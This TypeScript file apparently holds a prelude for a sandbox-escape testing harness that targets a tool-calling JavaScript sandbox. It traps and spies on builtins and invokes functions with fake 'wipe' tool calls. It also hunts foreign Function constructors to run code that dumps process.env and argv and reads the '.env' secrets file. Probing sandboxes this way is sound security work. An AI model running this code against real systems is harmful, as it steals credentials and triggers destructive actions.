/**
 * The beginning of every program that is made: it keeps builtins as they were, collects what the program can lay its
 * hands on (`take`, `spy`, `trap`), tries what functions do (`poke`), and at the end tells of all that can be reached
 * from there (`dig`). An oracle sees only what leaves the guest.
 */
export const thief = `const haul = [], foreign = new Set(), seen = new Set();
const { ownKeys, getPrototypeOf, getOwnPropertyDescriptor, defineProperty, apply, construct } = Reflect;
const uncurry = Function.prototype.bind.bind(Function.prototype.call), OwnFunction = Function;
const has = uncurry(Set.prototype.has), add = uncurry(Set.prototype.add), cut = uncurry(String.prototype.slice);
const sourceOf = uncurry(Function.prototype.toString), race = Promise.race.bind(Promise), asText = String;
for (const name of Object.getOwnPropertyNames(globalThis)) {
  if (!/^[A-Z]/.test(name) || /^(ALL_TOOLS|MCP|API)$/.test(name)) continue;
  const known = globalThis[name];
  if (typeof known === "function" || typeof known === "object") { add(seen, known); add(seen, known?.prototype); }
}
const take = (thing) => { haul[haul.length] = thing; return thing; };
const replace = (owner, key, value) => defineProperty(owner, key, { __proto__: null, value, writable: true, configurable: true });
const trap = (owner, key) => defineProperty(owner, key, { __proto__: null, configurable: true,
  get() { take(this); return undefined; }, set(value) { take(this); take(value); } });
const spy = (owner, key) => { const real = owner[key]; replace(owner, key, function (...given) {
  take(this); for (let at = 0; at < given.length; at++) take(given[at]);
  return take(new.target ? construct(real, given, new.target) : apply(real, this, given)); }); };
const soon = async (thing) => race([thing, (async () => { for (let turn = 0; turn < 20; turn++) await 0; })()]);
const poke = async (thing) => { if (typeof thing !== "function") return take(thing);
  for (const given of [[], ["wipe", {}], ["wipe"], [{ tool: "wipe", name: "wipe", id: 1, input: {} }],
    ['{"id":1,"tool":"wipe","name":"wipe","input":{}}'], [1, "{canary}"], [() => 0, () => 0]]) {
    try { take(await soon(thing(...given))); } catch (caught) { take(caught); } } };
const evaluate = (make) => { if (has(foreign, make)) return; add(foreign, make);
  for (const code of ["return JSON.stringify([process.env, process.argv])", "return this",
    "return process.getBuiltinModule('fs').readFileSync('.env', 'utf8')"]) {
    try { take(make(code)()); } catch (caught) { take(caught); } } };
const dig = () => { let report = "";
  const tell = (words) => { if (report.length < 16000) report += cut(words, 0, 9000) + " "; };
  for (let at = 0; at < haul.length && at < 300; at++) { const thing = haul[at];
    if (typeof thing === "string") tell(thing);
    if ((typeof thing !== "object" && typeof thing !== "function") || thing === null || has(seen, thing)) continue;
    add(seen, thing);
    try { if (typeof thing === "function") tell(cut(sourceOf(thing), 0, 300)); } catch (caught) { take(caught); }
    try { const make = thing.constructor.constructor; if (typeof make === "function") evaluate(make); } catch {}
    try { take(getPrototypeOf(thing)); } catch (caught) { take(caught); }
    let keys = []; try { keys = ownKeys(thing); } catch (caught) { take(caught); }
    for (let place = 0; place < keys.length && place < 30; place++) { try { tell(asText(keys[place]));
      const own = getOwnPropertyDescriptor(thing, keys[place]);
      if (own && "value" in own) take(own.value); else { take(own?.get); take(thing[keys[place]]); } } catch (caught) { take(caught); } } }
  return report; };
let v0, v1, v2, v3;`;
